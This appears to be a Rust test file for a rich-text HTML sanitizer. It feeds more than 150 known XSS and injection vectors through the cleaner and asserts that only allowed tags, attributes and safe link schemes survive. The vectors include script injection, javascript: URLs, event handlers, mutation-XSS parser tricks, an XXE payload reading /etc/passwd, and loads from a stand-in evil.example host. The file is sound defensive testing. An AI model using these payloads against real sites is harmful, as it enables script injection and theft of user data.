//! Known ways to smuggle scripts, loads and forms into rich text, and what is left of them.

use kith_core::values::rich_text::{TAGS, clean};
use serde_json::json;

use crate::desk::Desk;

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>alert(1)//",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>import('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"XSS\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
    "<img srcset=\"https://evil.example/a.png 2x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<picture><source srcset=https://evil.example/a.png><img></picture>",
    "<image src=https://evil.example/x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://evil.example/1\">x</a>",
    "<a href=\"tauri://localhost/x\">x</a>",
    "<a href=\"ipc://localhost/x\">x</a>",
    "<a href=\"//evil.example/x\">x</a>",
    "<a href=\"/api/v1/records\">x</a>",
    "<a href=\"\\\\evil.example\\share\">x</a>",
    "<a href=\"https://x.example\" onclick=alert(1)>x</a>",
    "<a href=\"https://x.example\" target=_blank ping=https://evil.example>x</a>",
    "<a href=\"https://x.example\" style=\"position:fixed;inset:0\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<a onmouseover=alert(document.cookie)>x</a>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1)>",
    "<svg><use href=\"https://evil.example/x.svg#a\"/>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=javascript:alert(1)>CLICK</math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><iframe onload=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><script>alert(1)</script>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<table><td background=\"javascript:alert(1)\">x</td></table>",
    "<table background=https://evil.example/a.png><tr><td>x</table>",
    "<body onload=alert(1)>",
    "<body background=\"https://evil.example/a.png\">",
    "<html onmouseover=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=text/html data=https://evil.example></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x></applet>",
    "<video src=https://evil.example/x.mp4 onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=x onerror=alert(1)>",
    "<audio autoplay src=https://evil.example/x.mp3>",
    "<track src=https://evil.example/x.vtt>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=https://evil.example/x.png>",
    "<input type=password name=pin>",
    "<button onclick=alert(1)>x</button>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open oncancel=alert(1)>x</dialog>",
    "<div onpointerenter=alert(1)>x</div>",
    "<p onanimationstart=alert(1) style=animation-name:x>x</p>",
    "<div contenteditable onbeforeinput=alert(1)>x</div>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<p style=\"background-image:\\75rl(https://evil.example)\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=script href=https://evil.example/x.js>",
    "<link rel=import href=https://evil.example/x.html>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example></layer>",
    "<xss style=\"xss:expression(alert(1))\">x</xss>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onconnected=alert(1)>x</custom-element>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<?import namespace=t implementation=https://evil.example>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "\u{feff}<script>alert(1)</script>",
    "<a href=\"https://x.example\"\"onclick=alert(1)>x</a>",
    "<p/onclick=alert(1)>x</p>",
    "<p class=k-hidden id=app name=cookie>x</p>",
    "<span data-type=mention data-id=\"x' onclick=alert(1)\" data-label=\"<img src=x onerror=alert(1)>\">@x</span>",
    "<span data-type=\"other\" data-kind=\"script\">x</span>",
    "<ul data-type=\"taskList\" onclick=alert(1)><li data-checked=\"yes\" onclick=alert(1)>x</li></ul>",
    "<ol start=\"javascript:alert(1)\"><li>x</ol>",
    "<li data-type=taskItem data-checked=\"true\" style=\"x\">x</li>",
    "<portal src=https://evil.example></portal>",
    "<object><param name=src value=https://evil.example></object>",
    "<map><area href=javascript:alert(1)></map>",
    "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=https://evil.example>x</blockquote>",
    "<del cite=javascript:alert(1) datetime=x>x</del>",
    "<font face=\"x\" onclick=alert(1)>x</font>",
    "<center><b onclick=alert(1)>x</b></center>",
    "<o:p onclick=alert(1)>x</o:p>",
    "<v:shape style=behavior:url(#default#vml) onclick=alert(1)>",
];

/// Every tag of a clean text with its attributes; quotes may hold a `>`.
fn tags(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some((_, tagged)) = rest.split_once('<') {
        let mut quoted = false;
        let end = tagged
            .find(|c| {
                quoted ^= c == '"';
                c == '>' && !quoted
            })
            .unwrap_or_else(|| panic!("a tag without an end in {html}"));
        found.push(tagged[..end].to_string());
        rest = &tagged[end + 1..];
    }
    found
}

const ATTRIBUTES: [&str; 8] =
    ["href", "rel", "start", "data-type", "data-checked", "data-id", "data-kind", "data-label"];

fn assert_harmless(html: &str, from: &str) {
    for tag in tags(html) {
        let inside = tag.trim_start_matches('/').trim_end_matches('/').trim();
        let (name, mut attributes) = inside.split_once(' ').unwrap_or((inside, ""));
        assert!(TAGS.contains(&name), "<{name}> of {from} in {html}");
        while let Some((key, after)) = attributes.split_once("=\"") {
            let (value, rest) = after.split_once('"').unwrap();
            assert!(ATTRIBUTES.contains(&key.trim()), "{key} of {from} in {html}");
            if key.trim() == "href" {
                let safe = ["https://", "http://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                assert!(safe, "{value} of {from} in {html}");
            }
            attributes = rest;
        }
        assert_eq!(attributes.trim(), "", "an attribute without quotes of {from} in {html}");
    }
}

#[test]
fn int_08_nothing_hostile_is_left_of_any_known_vector() {
    assert!(VECTORS.len() >= 100, "{}", VECTORS.len());
    for vector in VECTORS {
        for html in [vector.to_string(), format!("<p>before {vector} after</p>"), format!("<ul><li>{vector}")] {
            let once = clean(&html);
            assert_harmless(&once, vector);
            assert_harmless(&clean(&once), vector);
        }
    }
}

#[test]
fn int_08_what_is_deeply_nested_or_cut_off_is_survived() {
    for html in [
        "<b>".repeat(20_000),
        "<ul><li>".repeat(5_000),
        "<a href=\"https://x.example\">".repeat(2_000),
        "<p title=\"".to_string(),
        "<".repeat(10_000),
        "&#x".repeat(10_000),
        "\0<p>\0</p>\u{202e}".to_string(),
    ] {
        assert_harmless(&clean(&html), "a long one");
    }
}

#[test]
fn int_08_a_note_keeps_what_is_clean_of_each_vector() {
    let desk = Desk::new();
    let party = desk.create("person", json!({"first_name": "A"})).id;
    for vector in VECTORS.iter().step_by(9) {
        let html = format!("<p>kept</p>{}", vector.replace('\0', ""));
        let note = desk.create("note", json!({"content_html": html, "party": party}));
        assert_harmless(note.text("content_html").unwrap(), vector);
        assert!(note.text("content").unwrap().starts_with("kept"), "{vector}");
    }
}
